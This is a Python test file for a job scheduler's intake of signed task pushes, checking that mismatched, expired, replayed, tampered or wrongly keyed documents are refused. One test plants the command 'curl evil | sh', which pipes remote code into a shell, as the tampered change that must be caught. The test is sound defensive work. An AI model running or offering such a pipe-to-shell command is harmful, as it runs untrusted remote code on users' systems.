"""A signed push, as the intake looks at it: what is accepted, and what is an error at the push rather than at the worker."""

import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from boss.adapters.intake import Intake
from boss.core.model import FileRef, Job, JobState, Template
from boss.ports import PushRequest
from boss.signing import answer
from boss.taskfile.problems import Refused
from client.signing import NotSigned, signing_key
from tests.signing import Key, digest_of, document, signed
from worker.protocol import Assignment, Input
from worker.signed import check, read
from worker.trust import split

TASKS = {
    "files": ["p.sh"],
    "tasks": [
        {
            "id": "t-{row}",
            "foreach": [{"csv": "p.csv"}, {"n": {"range": [2]}}],
            "command": "sh p.sh {T:.2f} {n}",
            "inputs": ["p.sh", "shared:g.fa"],
            "env": {"T": "{T}"},
        },
        {"id": "after", "command": "true", "after": ["t-*"], "timeout": "5m"},
    ],
}
PROGRAM = FileRef("ab" * 32, 10, 0o755)


class Desk:
    """Signs and pushes as ada, whom pool ``secure`` trusts."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.ada = Key(folder / "keys", "ada")
        self.intake = Intake(folder / "pushes", cluster="c1", signers={"secure": self.ada.line})
        (folder / "p.csv").write_text("T\n1.50\n2.25\n")

    def parts(self, tasks: Any = TASKS) -> dict[str, Any]:
        """What the researcher's machine makes of a task file."""
        (self.folder / "tasks.json").write_text(json.dumps(tasks))
        question = {
            "text": str(self.folder / "tasks.json"), "file_name": "sweep.json", "replay": None, "files": ["p.sh"],
            "tables": {"p.csv": str(self.folder / "p.csv")}, "unread_tables": {},
        }  # fmt: skip
        return answer(question)

    def document(self, tasks: Any = TASKS, **more: Any) -> dict[str, Any]:
        """The document of these tasks."""
        found = self.parts(tasks)
        plain = document(
            "sweep",
            files={"p.sh": [PROGRAM.digest, PROGRAM.mode]},
            shared={"g.fa": "cd" * 32},
            dimensions=found["dimensions"],
            templates=found["templates"],
        )
        return {**plain, **more}

    def push(self, data: bytes, tasks: Any = TASKS, **more: Any) -> list[Template]:
        """Push with this signed document; the templates that come of it."""
        (self.folder / "signed").write_bytes(data)
        (self.folder / "received").write_text(json.dumps(tasks))
        fields = {"files": {"p.sh": PROGRAM}, "tables": {"p.csv": self.folder / "p.csv"}, "owner": "ada", **more}
        plan = self.intake.plan(PushRequest(self.folder / "received", "sweep.json", signed=self.folder / "signed", **fields))
        assert plan.signed["pools"] == ["secure"] and plan.signed["signer"] == "ada"
        return [template for templates, _ in self.intake.slices(plan) for template in templates]

    def refused(self, data: bytes, tasks: Any = TASKS, **more: Any) -> str:
        """Why such a push is refused."""
        with pytest.raises(Refused) as caught:
            self.push(data, tasks, **more)
        return "; ".join(map(str, caught.value.problems))


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    made = Desk(tmp_path)
    yield made
    made.intake.close()


def test_what_was_signed_is_known_by_every_template_and_expands_on_a_worker_to_what_the_boss_would_say(desk: Desk) -> None:
    data = signed(desk.ada, desk.document())
    first, second = desk.push(data)
    assert first.signed is not None and second.signed is not None
    assert (first.signed.document, first.signed.entry, second.signed.entry) == (digest_of(data), 0, 1)
    assert (first.signed.key, first.signed.signer) == (desk.ada.fingerprint, "ada")
    inputs = (Input("p.sh", "", PROGRAM.digest, 0o755), Input("shared:g.fa", "g.fa"))
    told = Assignment(
        "u.3.1", "sweep", "t-3", ("sh p.sh 2.25 1",), inputs, env={"T": "2.25"}, needs={"cpus": 1}, entry=0, row=3, document="x"
    )
    check(read(split(data)[1]), told)


@pytest.mark.parametrize(
    ("change", "because"),
    [
        ({"job": "other"}, "job 'other' was signed, and this would be job 'sweep'"),
        ({"cluster": "c2"}, "was signed for cluster c2, and this is c1"),
        ({"expires": 5}, "the signature was good until 1970-01-01 00:00 UTC"),
        ({"owner": "bob"}, "was signed for bob to push, and this is ada's token"),
        ({"files": {}}, "file 'p.sh' is not the one that was signed"),
        ({"files": {"p.sh": ["ab" * 32, 0o755], "q": ["ab" * 32, 0o644]}}, "file 'q' is not the one that was signed"),
        ({"shared": {}}, "no digest of 'shared:g.fa' was signed"),
        ({"templates": []}, "0 entries were signed, and this task file has 2"),
        ({"dimensions": []}, "other parameters were signed"),
        ({"format": "ecloud-job-2"}, "has the format 'ecloud-job-2'"),
        ({"expires": 2**40}, "expires is no time"),
        ({"nonce": 5}, "has no nonce"),
        ({"files": {"p.sh": ["ab" * 32, 1e999]}}, "the signed document cannot be read: "),
    ],
)
def test_a_document_that_says_otherwise_than_the_push_is_refused(desk: Desk, change: dict[str, Any], because: str) -> None:
    assert because in desk.refused(signed(desk.ada, desk.document(**change)))


def test_a_task_file_that_was_changed_after_it_was_signed_is_refused_and_the_task_named(desk: Desk) -> None:
    data = signed(desk.ada, desk.document())
    changed = json.loads(json.dumps(TASKS))
    changed["tasks"][1]["command"] = "curl evil | sh"
    assert "tasks[1]: signature: its commands was signed otherwise" in desk.refused(data, changed)


def test_keys_that_are_unknown_or_of_another_kind_and_what_is_no_signature_are_refused(desk: Desk, tmp_path: Path) -> None:
    eve, rsa = Key(tmp_path / "keys", "eve"), Key(tmp_path / "keys", "rsa", "rsa")
    said = desk.refused(signed(eve, desk.document()))
    assert f"the key {eve.fingerprint} is not known here (pool secure trusts ada)" in said and "allowed_signers" in said
    assert "of type ssh-rsa: jobs are signed with Ed25519" in desk.refused(signed(rsa, desk.document()))
    good = signed(desk.ada, desk.document())
    assert "does not hold" in desk.refused(good.replace(b"sh p.sh", b"sh q.sh"))
    for wrong in (b"", b"{}", b"\x00" * 100, good[:50], good[: good.index(b"{")]):
        assert "signature" in desk.refused(wrong)


def test_where_no_pool_asks_for_a_signature_any_key_may_sign_if_the_signature_holds(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    open_ = Intake(tmp_path / "open", cluster="c1")
    try:
        eve = Key(tmp_path / "keys", "eve")
        good = signed(eve, desk.document())
        for data, holds in ((good, True), (good.replace(b"sh p.sh", b"sh q.sh"), False)):
            (tmp_path / "signed").write_bytes(data)
            (tmp_path / "received").write_text(json.dumps(TASKS))
            request = PushRequest(
                tmp_path / "received", "sweep.json", files={"p.sh": PROGRAM}, tables={"p.csv": tmp_path / "p.csv"},
                owner="ada", signed=tmp_path / "signed",
            )  # fmt: skip
            if holds:
                assert open_.plan(request).signed["key"] == eve.fingerprint
            else:
                with pytest.raises(Refused, match="does not hold"):
                    open_.plan(request)
    finally:
        open_.close()
        desk.intake.close()


def test_a_signed_task_reads_nothing_that_came_with_an_earlier_push_and_a_document_counts_once(desk: Desk) -> None:
    tasks = {"tasks": [{"id": "more", "command": "sh old.sh", "inputs": ["old.sh"]}]}
    job = Job("u1", "sweep", "ada", 0.0, JobState.OPEN, files={"old.sh": PROGRAM}, templates=[Template(0, "x", ("true",))])
    data = signed(desk.ada, desk.document(tasks, files={}))
    fields: dict[str, Any] = {"job": "sweep", "existing": job, "files": {}}
    assert "'old.sh' came with an earlier push" in desk.refused(data, tasks, **fields)
    plain = {"tasks": [{"id": "more", "command": "true"}]}
    data = signed(desk.ada, desk.document(plain, files={}))
    templates = desk.push(data, plain, **fields)
    job.templates += templates
    assert "has been pushed already" in desk.refused(data, plain, **fields)


def test_programs_that_are_results_of_other_tasks_are_noted_where_the_job_is_signed(desk: Desk) -> None:
    tasks = {
        "tasks": [
            {"id": "make", "command": "cc -o solver x.c", "outputs": ["solver"]},
            {"id": "go", "command": "./solver 1 > y", "inputs": ["solver"], "outputs": ["y"]},
            {"id": "read", "command": "cat y", "inputs": ["y"]},
        ]
    }
    (note,) = desk.parts(tasks)["notes"]
    assert note.startswith("tasks[1]: it starts 'solver', a result of another task")


def test_a_key_that_cannot_sign_is_found_before_anything_is_asked(tmp_path: Path) -> None:
    rsa, ada = Key(tmp_path, "rsa", "rsa"), Key(tmp_path, "ada")
    (tmp_path / "text").write_text("no key\n")
    os.chmod(tmp_path / "text", stat.S_IRUSR)
    for path, because in (
        (tmp_path / "missing", "there is no such file"),
        (tmp_path, "is a folder"),
        (tmp_path / "text", "is no key of OpenSSH's"),
        (rsa.path, "a key of type RSA; jobs are signed with Ed25519"),
    ):
        with pytest.raises(NotSigned, match=because):
            signing_key(path)
    assert signing_key(ada.path).fingerprint == ada.fingerprint
    ada.path.chmod(0o640)
    with pytest.raises(NotSigned, match="chmod 600"):
        signing_key(ada.path)
